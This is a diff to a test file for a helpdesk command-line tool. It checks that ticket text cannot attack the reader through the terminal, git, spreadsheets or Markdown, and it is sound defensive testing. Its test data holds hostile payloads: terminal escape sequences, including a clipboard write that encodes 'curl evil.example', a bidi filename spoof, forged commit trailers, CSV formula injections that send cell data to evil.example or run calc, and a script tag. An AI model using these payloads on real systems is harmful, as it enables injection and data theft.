@@ -1,7 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
-import { openTicket, snapshot, tempHelpdesk, type InProcessHelpdesk, type TempHelpdesk } from '../helpers/helpdesk.js';
+import { deskProcess, helpdesk, openTicket, snapshot, type InProcessHelpdesk } from '../helpers/helpdesk.js';
 import { at, invoiceHelpdesk, logGoldenOctober } from '../invoice/helpers.js';
 import { pdfText } from '../invoice/documents.js';
 import { ticketFile } from '../../src/core/ticket/paths.js';
@@ -9,7 +9,9 @@ import { csvCells } from '../helpers/csv.js';
 
 /*
  * The attacks of the issue "text that cannot attack the reader", each as it was reproduced:
- * outside text that reached the terminal, git, spreadsheets and legal documents raw.
+ * outside text that reached the terminal, git, spreadsheets and legal documents raw. Desk runs
+ * in-process (its stdout no terminal, as a process's into a pipe); `kb search` also as a process,
+ * which starts on a path of its own (src/cli/lean/).
  */
 const ESC_TITLE = '\u001b]0;pwned\u0007\u001b[2J\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\u0007Drucker';
 const RLO = '\u202e';
@@ -17,7 +19,7 @@ const RLO = '\u202e';
 // eslint-disable-next-line no-control-regex
 const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
-let hd: TempHelpdesk;
+let hd: InProcessHelpdesk;
 let ihd: InProcessHelpdesk | undefined;
 afterEach(() => {
   hd?.cleanup();
@@ -26,9 +28,9 @@ afterEach(() => {
 });
 
 describe('terminal injection', () => {
-  it('a title, contact and comment with OSC/CSI sequences and a bidi override are shown, never run', () => {
-    hd = tempHelpdesk();
-    const id = openTicket(hd, [
+  it('a title, contact and comment with OSC/CSI sequences and a bidi override are shown, never run', async () => {
+    hd = helpdesk();
+    const id = await openTicket(hd, [
       '--title',
       `${ESC_TITLE} ${RLO}gpj.exe`,
       '--contact',
@@ -40,61 +42,70 @@ describe('terminal injection', () => {
       '--priority',
       'high',
     ]);
-    hd.ok(['comment', id, '-m', `Notiz \u009b2J ${RLO}x`]);
-    hd.ok(['kb', 'new', '--from-ticket', id, '--slug', 'drucker'], { env: { DESK_USER: 'jb' } });
+    await hd.ok(['comment', id, '-m', `Notiz \u009b2J ${RLO}x`]);
+    await hd.ok(['kb', 'new', '--from-ticket', id, '--slug', 'drucker'], { env: { DESK_USER: 'jb' } });
     const outputs = [
-      hd.ok(['list']),
-      hd.ok(['list', '--sort', 'deadline']),
-      hd.ok(['show', id]),
-      hd.ok(['queue']),
-      hd.ok(['sla']),
-      hd.ok(['kb', 'list']),
-      hd.ok(['kb', 'show', 'drucker']),
-      hd.ok(['kb', 'show', 'drucker', '--raw']),
-      hd.ok(['kb', 'search', 'Drucker']),
-      hd.ok(['show', id, '--json']),
-      hd.ok(['list', '--json']),
+      await hd.ok(['list']),
+      await hd.ok(['list', '--sort', 'deadline']),
+      await hd.ok(['show', id]),
+      await hd.ok(['queue']),
+      await hd.ok(['sla']),
+      await hd.ok(['kb', 'list']),
+      await hd.ok(['kb', 'show', 'drucker']),
+      await hd.ok(['kb', 'show', 'drucker', '--raw']),
+      await hd.ok(['kb', 'search', 'Drucker']),
+      deskProcess(hd.root).ok(['kb', 'search', 'Drucker']),
+      await hd.ok(['show', id, '--json']),
+      await hd.ok(['list', '--json']),
     ];
     for (const out of outputs) expect(out).not.toMatch(ACTS);
-    const show = hd.ok(['show', id]);
+    const show = await hd.ok(['show', id]);
     expect(show).toContain('\\x1b]0;pwned\\x07\\x1b[2J');
     expect(show).toContain('\\u202egpj.exe');
     // the description's carriage return cannot overwrite a line and fake a timeline entry
     expect(show).toContain('rot\\x1b[0m\\x0d2026-11-20 10:00');
     // JSON keeps the title exactly: a program reading it gets what was typed
-    expect(JSON.parse(hd.ok(['show', id, '--json'])).state.title).toBe(`${ESC_TITLE} ${RLO}gpj.exe`);
+    expect(JSON.parse(await hd.ok(['show', id, '--json'])).state.title).toBe(`${ESC_TITLE} ${RLO}gpj.exe`);
   });
 
-  it('error messages quoting what was typed show it too', () => {
-    hd = tempHelpdesk();
-    const r = hd.desk(['show', `T-\u001b]0;x\u0007`]);
+  it('error messages quoting what was typed show it too', async () => {
+    hd = helpdesk();
+    const r = await hd.desk(['show', `T-\u001b]0;x\u0007`]);
     expect(r.code).toBe(2);
     expect(r.stderr).not.toMatch(ACTS);
   });
 });
 
 describe('commit messages', () => {
-  it('a title with line breaks is refused at input; one written by hand keeps list rows one line each', () => {
-    hd = tempHelpdesk();
+  it('a title with line breaks is refused at input; one written by hand keeps list rows one line each', async () => {
+    hd = helpdesk();
     const before = snapshot(hd);
-    const r = hd.desk(['open', '-c', 'acme', '--channel', 'phone', '-t', 'Drucker\n\nSigned-off-by: Chef <chef@x.de>']);
+    const r = await hd.desk([
+      'open',
+      '-c',
+      'acme',
+      '--channel',
+      'phone',
+      '-t',
+      'Drucker\n\nSigned-off-by: Chef <chef@x.de>',
+    ]);
     expect(r.code).toBe(2);
     expect(r.stderr).toContain('--title: has a line break');
     expect(snapshot(hd)).toBe(before);
 
-    const id = openTicket(hd);
+    const id = await openTicket(hd);
     const file = ticketFile(id);
     hd.write(file, hd.read(file).replaceAll('title: Drucker druckt nicht', 'title: "Drucker\\nSigned-off-by: Chef"'));
     hd.git('commit', '-qam', 'a title edited by hand');
-    const rows = hd.ok(['list']).trimEnd().split('\n');
+    const rows = (await hd.ok(['list'])).trimEnd().split('\n');
     expect(rows).toHaveLength(2); // header and the one ticket
     expect(rows[1]).toContain('Drucker\\nSigned-off-by: Chef');
   });
 
-  it('outside text in a commit subject forges no trailer and puts no control into git log', () => {
-    hd = tempHelpdesk();
-    const id = openTicket(hd, ['--title', `${ESC_TITLE} ${RLO}x`, '--category', 'question', '--priority', 'low']);
-    hd.ok(['escalate', id, '--reason', 'DB-Analyse\n\nSigned-off-by: Chef <chef@x.de>\nCo-authored-by: X <x@x>']);
+  it('outside text in a commit subject forges no trailer and puts no control into git log', async () => {
+    hd = helpdesk();
+    const id = await openTicket(hd, ['--title', `${ESC_TITLE} ${RLO}x`, '--category', 'question', '--priority', 'low']);
+    await hd.ok(['escalate', id, '--reason', 'DB-Analyse\n\nSigned-off-by: Chef <chef@x.de>\nCo-authored-by: X <x@x>']);
     const log = hd.git('log', '--format=%B%n----');
     expect(log).not.toMatch(ACTS);
     for (const message of log
@@ -110,24 +121,24 @@ describe('commit messages', () => {
 describe('spreadsheets and Markdown', () => {
   const FORMULA = '=1+1+HYPERLINK("https://evil.example/?x="&A1,"Klick")';
 
-  it('report CSV cells that would start a formula start with a quote; Markdown passes no <script>', () => {
-    hd = tempHelpdesk();
-    openTicket(hd, ['--title', FORMULA, '--category', 'question', '--priority', 'normal']);
-    openTicket(hd, ['--title', '<script>alert(1)</script>', '--category', 'question', '--priority', 'normal']);
-    openTicket(hd, ['--title', '@SUM(1+1)*cmd|" /C calc"!A0', '--category', 'question', '--priority', 'normal']);
+  it('report CSV cells that would start a formula start with a quote; Markdown passes no <script>', async () => {
+    hd = helpdesk();
+    await openTicket(hd, ['--title', FORMULA, '--category', 'question', '--priority', 'normal']);
+    await openTicket(hd, ['--title', '<script>alert(1)</script>', '--category', 'question', '--priority', 'normal']);
+    await openTicket(hd, ['--title', '@SUM(1+1)*cmd|" /C calc"!A0', '--category', 'question', '--priority', 'normal']);
     for (const locale of ['en', 'de']) {
-      const csv = hd.ok(['report', 'backlog', '--format', 'csv', '--csv-locale', locale]);
+      const csv = await hd.ok(['report', 'backlog', '--format', 'csv', '--csv-locale', locale]);
       const cells = csvCells(csv, locale === 'de' ? ';' : ',');
       expect(cells.some((c) => c.startsWith("'=1+1+HYPERLINK"))).toBe(true);
       expect(cells.some((c) => c.startsWith("'@SUM"))).toBe(true);
       expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c))).toEqual([]);
     }
-    const customer = csvCells(hd.ok(['report', 'customer', 'acme', '--format', 'csv']), ',');
+    const customer = csvCells(await hd.ok(['report', 'customer', 'acme', '--format', 'csv']), ',');
     expect(customer.filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
     for (const report of [['backlog'], ['customer', 'acme']]) {
-      const md = hd.ok(['report', ...report, '--format', 'md']);
+      const md = await hd.ok(['report', ...report, '--format', 'md']);
       expect(md).not.toMatch(/<script/i);
-      const html = hd.ok(['report', ...report, '--format', 'html']);
+      const html = await hd.ok(['report', ...report, '--format', 'html']);
       expect(html).not.toMatch(/<script/i);
     }
   });
